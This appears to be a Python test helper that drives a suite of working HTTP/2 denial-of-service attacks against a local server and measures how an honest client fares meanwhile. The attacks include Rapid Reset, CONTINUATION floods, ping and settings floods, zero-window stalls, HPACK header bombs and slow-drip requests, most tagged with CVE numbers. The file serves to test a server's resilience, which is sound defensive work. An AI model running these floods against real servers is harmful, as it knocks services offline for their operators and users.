#!/usr/bin/env python3
"""Attacks on an HTTP/2 server, for tests/server/h2_attack.test; and an honest client of it meanwhile.

Usage: h2_attack.py NAME PORT LAB SECONDS [CONNECTIONS [told]]    so many at once, each anew when the server has ended it; prints
                                                           "NAME: N connections, WHAT N, ...": how they ended. told: they go
                                                           on until one of them was told to end, however long that takes
       h2_attack.py honest PORT LAB SECONDS PATH           asks on one connection, every 20 ms; prints "requests N good N worst MS"
       h2_attack.py names                                  one a line

All of them speak to 127.0.0.1 and end by themselves.
"""
import collections
import struct
import sys
import threading
import time

import h2_by_hand as h2
from h2_by_hand import END_HEADERS, END_STREAM, encode, frame, request_fields

LARGE = encode(request_fields("GET", "/large"))
SMALL = encode(request_fields("GET", "/livez"))
BATCH = 50


def word(n):
    return struct.pack("!I", n)


def ask(number, block=SMALL, ends=True):
    return frame("HEADERS", END_HEADERS | (END_STREAM if ends else 0), number, block)


class Attack:
    """One connection of an attack: begin makes it, more sends the next piece and says whether there is one."""

    settings, options, pause = {}, {}, 0

    def __init__(self):
        self.number = -1

    def next(self):
        self.number += 2
        return self.number

    def begin(self, client):
        pass

    def more(self, client):
        raise NotImplementedError

    def batch(self, one, count=BATCH):
        return b"".join(one() for _ in range(count))


class RapidReset(Attack):
    """Streams that are reset as soon as they are there (CVE-2023-44487)."""

    block = LARGE

    def one(self):
        number = self.next()
        return ask(number, self.block) + frame("RST_STREAM", 0, number, word(8))

    def more(self, client):
        return client.send(self.batch(self.one), 1)


class RapidResetProxied(RapidReset):
    """The same, where each would be a request to a backend that says nothing."""

    block = encode(request_fields("GET", "/app/x?hang"))


class ProvokedReset(Attack):
    """Streams that the server has to reset, since their requests are malformed (CVE-2025-8671)."""

    block = encode(request_fields("GET", "/livez", [("X-Upper", "1")]))

    def more(self, client):
        return client.send(self.batch(lambda: ask(self.next(), self.block)), 1)


class ProvokedByWindows(Attack):
    """Streams that it has to reset, since their windows are too large."""

    def one(self):
        number = self.next()
        return ask(number, LARGE) + frame("WINDOW_UPDATE", 0, number, word(0x7FFFFFFF))

    def more(self, client):
        return client.send(self.batch(self.one), 1)


class ProvokedResetDeaf(ProvokedReset):
    """Malformed requests of a client that reads nothing of what it is told."""

    options = {"deaf": True}


class RefusedDeaf(Attack):
    """More streams than are allowed, of a client that has not seen how many these are, and reads nothing."""

    settings, options = {"INITIAL_WINDOW_SIZE": 0}, {"deaf": True, "mute": True}

    def more(self, client):
        return client.send(self.batch(lambda: ask(self.next(), LARGE), 500), 1)


class Continuation(Attack):
    """A head that never ends (CVE-2024-27316)."""

    piece = encode([("a", "b" * 16000)])

    def begin(self, client):
        client.send(frame("HEADERS", END_STREAM, 1, SMALL))

    def more(self, client):
        return client.send(frame("CONTINUATION", 0, 1, self.piece) * 4, 1)


class ContinuationEmpty(Continuation):
    """The same, of nothing at all (CVE-2019-9518)."""

    def more(self, client):
        return client.send(frame("CONTINUATION", 0, 1) * 1000, 1)


class SettingsFlood(Attack):
    """SETTINGS, of whose acknowledgements none is read (CVE-2019-9515)."""

    options = {"deaf": True}
    piece = h2.settings_frame({"INITIAL_WINDOW_SIZE": 70000}) * 500

    def more(self, client):
        return client.send(self.piece, 1)


class PingFlood(SettingsFlood):
    """PING, of whose answers none is read (CVE-2019-9512)."""

    piece = frame("PING", 0, 0, b"12345678") * 500


class EmptyData(Attack):
    """DATA without an octet (CVE-2019-9518)."""

    def begin(self, client):
        client.send(ask(1, encode(request_fields("POST", "/api/verify")), ends=False))

    def more(self, client):
        return client.send(frame("DATA", 0, 1) * 1000, 1)


class PriorityFlood(Attack):
    """PRIORITY of streams that there are not (CVE-2019-9513)."""

    def more(self, client):
        return client.send(self.batch(lambda: frame("PRIORITY", 0, self.next(), word(self.number + 2) + b"\x10"), 500), 1)


class UnknownFlood(Attack):
    """Frames of a type that nobody knows."""

    def more(self, client):
        return client.send(frame(77, 0, 0) * 1000, 1)


class ZeroWindow(Attack):
    """As many streams as there may be, whose answers nobody takes (CVE-2019-9517)."""

    settings, options, pause = {"INITIAL_WINDOW_SIZE": 0}, {"hold": True}, 0.2
    block = LARGE

    def begin(self, client):
        client.sync()
        client.send(self.batch(lambda: ask(self.next(), self.block), client.settings.get(3, 100)), 1)

    def more(self, client):
        client.read(0)
        return True


class ZeroWindowProxied(ZeroWindow):
    """The same of a backend."""

    block = encode(request_fields("GET", "/app/x?length=300000"))


class Dribble(ZeroWindow):
    """They take one octet at a time (CVE-2019-9511)."""

    pause = 0.02

    def more(self, client):
        client.read(0)
        return client.send(b"".join(frame("WINDOW_UPDATE", 0, number, word(1)) for number in range(1, self.number, 2)), 1)


class Deaf(Attack):
    """Asks for large files and reads nothing, although its windows are wide."""

    settings, options, pause = {"INITIAL_WINDOW_SIZE": 1 << 30}, {"deaf": True}, 0.2

    def begin(self, client):
        client.send(frame("WINDOW_UPDATE", 0, 0, word(1 << 30)) + self.batch(lambda: ask(self.next(), LARGE), 90), 1)

    def more(self, client):
        return True


class DeafSmall(Deaf):
    """Asks for small ones without end, and reads nothing."""

    pause = 0

    def begin(self, client):
        pass

    def more(self, client):
        if not client.send(self.batch(lambda: ask(self.next())), 0.2):
            self.pause = 0.2  # until the end
            self.more = lambda client: True
        return True


class HeaderBomb(Attack):
    """Heads that are small here and large there: one field of 4 KB, indexed 4,000 times."""

    first = SMALL + b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 4000
    later = SMALL + b"\xbe" * 8000

    def more(self, client):
        number = self.next()
        return client.send(ask(number, self.first if number == 1 else self.later), 1)


class SlowHeads(Attack):
    """Heads that come an octet at a time."""

    pause = 0.2

    def begin(self, client):
        client.send(frame("HEADERS", END_STREAM, 1, SMALL[:5]))

    def more(self, client):
        client.read(0)
        return client.send(frame("CONTINUATION", 0, 1, b"x"), 1)


class SlowBodies(Attack):
    """As many streams as there may be, with bodies that come an octet at a time."""

    pause = 0.1
    block = encode(request_fields("POST", "/app/x?echo", [("content-length", "1000")]))

    def begin(self, client):
        client.sync()
        client.send(self.batch(lambda: ask(self.next(), self.block, ends=False), client.settings.get(3, 100)), 1)

    def more(self, client):
        client.read(0)
        return client.send(b"".join(frame("DATA", 0, number, b"x") for number in range(1, self.number, 2)), 1)


class ManyStreams(Attack):
    """More streams than are allowed."""

    settings, options = {"INITIAL_WINDOW_SIZE": 0}, {"hold": True}

    def more(self, client):
        return client.send(self.batch(lambda: ask(self.next(), LARGE)), 1)


class Halves(Attack):
    """A frame whose end never comes."""

    pause = 0.2

    def begin(self, client):
        client.send(ask(1)[:12])

    def more(self, client):
        client.read(0)
        return True


ATTACKS = {one.__name__: one for one in globals().values() if isinstance(one, type) and issubclass(one, Attack) and one is not Attack}


def attack(name, port, lab, seconds, connections="8", told=""):
    kind, until, ends, lock = ATTACKS[name], time.monotonic() + float(seconds), collections.Counter(), threading.Lock()
    context = h2.context_of(lab)
    latest, heard = until + h2.PATIENCE, threading.Event()

    def goes_on():
        now = time.monotonic()
        return now < until or (told and now < latest and not heard.is_set())

    def one():
        while goes_on():
            how = "open"
            client = None
            try:
                client = h2.Client(int(port), context, settings=kind.settings, **kind.options)
                state = kind()
                state.begin(client)
                while goes_on() and not client.end and state.more(client):
                    if not kind.options.get("deaf"):
                        client.read(0)
                    pause = state.pause
                    if pause:
                        time.sleep(min(pause, max(0, until - time.monotonic())))
                if client.end or goes_on():
                    client.deaf = False
                    client.until(lambda: False, 1)  # what it says at last
                    codes = [code for _, code, _ in client.goaways]
                    how = codes[-1] if codes else client.end or "stuck"
                    if codes:
                        heard.set()
            except OSError:
                how = "refused"
            if client:
                client.close()
            with lock:
                ends[how] += 1

    threads = [threading.Thread(target=one, daemon=True) for _ in range(int(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(float(seconds) + 2 * h2.PATIENCE)
    print(f"{name}: {sum(ends.values())} connections, " + ", ".join(f"{how} {n}" for how, n in ends.most_common()), flush=True)


def honest(port, lab, seconds, path):
    until, good, number, worst = time.monotonic() + float(seconds), 0, -1, 0.0
    client = h2.Client(int(port), h2.context_of(lab))
    while time.monotonic() < until:
        number += 2
        began = time.monotonic()
        good += client.get(number, path).status() == "200"
        client.streams.clear()
        took = time.monotonic() - began
        worst = max(worst, took)
        time.sleep(max(0, 0.02 - took))
    print(f"requests {(number + 1) // 2} good {good} worst {worst * 1000:.0f}", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "names":
        print("\n".join(ATTACKS))
    elif sys.argv[1] == "honest":
        honest(*sys.argv[2:])
    else:
        attack(*sys.argv[1:])
